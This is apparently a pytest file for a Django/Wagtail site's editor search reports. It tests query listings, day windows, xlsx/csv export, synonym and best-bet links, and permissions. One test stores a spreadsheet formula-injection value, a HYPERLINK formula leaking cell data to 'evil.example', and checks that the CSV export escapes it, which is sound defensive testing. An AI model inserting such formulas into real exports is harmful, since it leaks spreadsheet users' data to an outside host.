"""The editors' search reports (报告 → 搜索无结果, 搜索低点击): which queries they list, for
which days, who sees them, their export, and the two actions that answer a row."""

import datetime
import html as html_lib
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.contrib.search_promotions.models import Query, SearchPromotion

from search.models import SearchDay
from tests import factories

pytestmark = pytest.mark.django_db

ZERO = reverse("search_reports:zero_results")
LOW = reverse("search_reports:low_clicks")


def days_ago(n):
    return timezone.localdate() - datetime.timedelta(days=n)


@pytest.fixture
def statistics():
    day = SearchDay.objects.create
    day(query_string="潜水艇", date=days_ago(0), searches=4, zero_results=4)
    day(query_string="潜水艇", date=days_ago(29), searches=3, zero_results=3)
    day(query_string="狗证", date=days_ago(2), searches=9, zero_results=2, impressions=7, clicks=4)
    day(query_string="老黄历", date=days_ago(30), searches=50, zero_results=50)  # too old
    # Shown 20 times, clicked twice: 10 %. Shown 20 times, clicked 15 times: fine.
    day(query_string="公积金", date=days_ago(1), searches=25, impressions=20, clicks=2)
    day(query_string="结婚", date=days_ago(1), searches=30, impressions=20, clicks=15)
    day(query_string="社保卡", date=days_ago(40), searches=60, impressions=60, clicks=0)  # old
    day(query_string="户口", date=days_ago(3), searches=3, impressions=3, clicks=0)  # too few


@pytest.fixture
def reviewer(client):
    client.force_login(factories.user("shenhe", "审核员"))
    return client


def rows(html):
    listing = html.split('id="listing-results"')[1]
    if "<tbody" not in listing:
        return []
    body = listing.split("<tbody")[1].split("</tbody>")[0]
    return [
        [
            re.sub(r"<[^>]+>", "", cell).strip()
            for cell in re.findall(r"<td[^>]*>(.*?)</td>", r, re.S)
        ]
        for r in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)
    ]


def test_the_zero_result_report_lists_the_last_30_days_most_searched_first(reviewer, statistics):
    html = reviewer.get(ZERO).content.decode()
    listed = [(r[0], r[1], r[2]) for r in rows(html)]
    assert listed == [("潜水艇", "7", "7"), ("狗证", "2", "9")]
    assert "老黄历" not in html  # 30 days ago is outside the last 30 days


def test_the_window_can_be_7_or_90_days(reviewer, statistics):
    week = [r[0] for r in rows(reviewer.get(ZERO, {"days": "7"}).content.decode())]
    assert week == ["潜水艇", "狗证"]
    assert rows(reviewer.get(ZERO, {"days": "7"}).content.decode())[0][1] == "4"
    quarter = [r[0] for r in rows(reviewer.get(ZERO, {"days": "90"}).content.decode())]
    assert quarter == ["老黄历", "潜水艇", "狗证"]


def test_the_low_click_report_lists_often_shown_seldom_clicked_queries(reviewer, statistics):
    html = reviewer.get(LOW).content.decode()
    assert [r[:5] for r in rows(html)] == [["公积金", "25", "20", "2", "10%"]]
    # 90 days reach 社保卡 (never clicked); 户口 was shown too rarely to judge.
    quarter = rows(reviewer.get(LOW, {"days": "90"}).content.decode())
    assert [r[0] for r in quarter] == ["社保卡", "公积金"]


def test_the_report_exports_to_xlsx(reviewer, statistics):
    response = reviewer.get(LOW, {"export": "xlsx", "days": "90"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["搜索词", "搜索次数", "展示结果次数", "点击次数", "点击率", "最近一次搜索"]
    assert values[1][:5] == ["社保卡", 60, 60, 0, "0%"]
    assert len(values) == 3


def test_a_query_written_as_a_formula_is_exported_to_csv_as_text(reviewer):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    SearchDay.objects.create(query_string=formula, date=days_ago(0), searches=2, zero_results=2)
    SearchDay.objects.create(query_string="@SUM(1+1)", date=days_ago(0), searches=1, zero_results=1)
    response = reviewer.get(ZERO, {"export": "csv"})
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    cells = [line.split(",")[0].strip('"') for line in lines[1:]]
    assert cells and all(cell.startswith("'") for cell in cells)


def test_add_a_synonym_opens_the_synonym_form_with_the_query_filled_in(reviewer, statistics):
    html = reviewer.get(ZERO).content.decode()
    link = html_lib.unescape(re.search(r'href="([^"]*)"[^>]*>添加同义词', html)[1])
    form = reviewer.get(link)
    assert form.status_code == 200
    assert re.search(r'name="terms"[^>]*value="潜水艇，"', form.content.decode())


def test_add_a_best_bet_opens_wagtails_form_with_the_query_filled_in(reviewer, statistics):
    html = reviewer.get(ZERO).content.decode()
    link = html_lib.unescape(re.search(r'href="([^"]*)"[^>]*>设为推荐结果', html)[1])
    form = reviewer.get(link).content.decode()
    assert re.search(r'name="query_string"[^>]*value="潜水艇"', form)
    # The form posts to Wagtail's own add view, which saves it.
    assert f'action="{reverse("wagtailsearchpromotions:add")}"' in form


def test_a_query_with_best_bets_already_opens_their_edit_form(reviewer, statistics):
    guide = factories.guide(title="犬只登记")
    query = Query.get("狗证")
    SearchPromotion.objects.create(query=query, page=guide)
    response = reviewer.get(reverse("search_reports:best_bet"), {"query_string": "狗证"})
    assert response.status_code == 302
    assert response["Location"] == reverse("wagtailsearchpromotions:edit", args=[query.pk])


@pytest.mark.parametrize("url", [ZERO, LOW, reverse("search_reports:best_bet")])
def test_editors_without_the_search_permissions_are_refused(client, statistics, url):
    client.force_login(factories.user("bianji", "编辑"))
    response = client.get(url)
    assert response.status_code == 403 or response["Location"].rstrip("/").endswith("/admin")
    assert "潜水艇" not in response.content.decode()


def test_the_reports_are_in_the_reports_menu_only_for_those_who_may_open_them(client):
    client.force_login(factories.user("shenhe", "审核员"))
    assert ZERO in client.get("/admin/").content.decode()
    client.force_login(factories.user("bianji", "编辑"))
    assert ZERO not in client.get("/admin/").content.decode()
